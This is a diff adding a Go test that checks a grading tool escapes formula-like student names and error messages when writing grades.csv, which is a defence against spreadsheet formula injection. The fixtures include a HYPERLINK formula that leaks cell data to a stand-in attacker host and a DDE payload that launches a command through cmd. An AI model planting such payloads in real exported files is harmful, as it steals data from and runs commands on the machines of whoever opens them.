@@ -378,3 +378,42 @@ func TestGradeBundledAssignments(t *testing.T) {
 		}
 	}
 }
+
+// A student chooses their folder's name, and the instructor opens
+// grades.csv in a spreadsheet: a name or message that starts like a formula
+// must arrive as text, while numbers and ordinary names stay as they are.
+func TestGradesCSVHoldsNoFormulas(t *testing.T) {
+	dir := t.TempDir()
+	reports := []submissionReport{
+		{Student: `=HYPERLINK("http://evil.example/?"&A1,"x")`, Assignment: "a1", Submission: "s/=1+1/a1.ipynb",
+			Tests: []testScore{{Test: "t1", Points: 0, MaxPoints: 2, Status: "failed", Message: "-1 is not 2", Seconds: 1}}},
+		{Student: "@SUM(A1)", Assignment: "a1", Submission: "x.ipynb", Error: "+cmd|' /C calc'!A0"},
+		{Student: "ada", Assignment: "a1", Submission: "ada/a1.ipynb",
+			Tests: []testScore{{Test: "t1", Points: 2, MaxPoints: 2, Status: "passed", Seconds: 1}}},
+	}
+	if err := writeGradeReports(dir, reports); err != nil {
+		t.Fatal(err)
+	}
+	f, err := os.Open(filepath.Join(dir, "grades.csv"))
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer f.Close()
+	rows, err := csv.NewReader(f).ReadAll()
+	if err != nil {
+		t.Fatal(err)
+	}
+	for _, row := range rows[1:] {
+		for i, field := range row {
+			if field != "" && strings.ContainsRune("=+-@", rune(field[0])) {
+				t.Errorf("column %s of %q starts like a formula: %q", rows[0][i], row, field)
+			}
+		}
+	}
+	if got := rows[len(rows)-1]; got[0] != "ada" || got[3] != "2" {
+		t.Errorf("an ordinary row changed: %q", got)
+	}
+	if got := rows[1][0]; got != `'=HYPERLINK("http://evil.example/?"&A1,"x")` {
+		t.Errorf("the formula-like name is %q, want it kept as text behind a quote", got)
+	}
+}
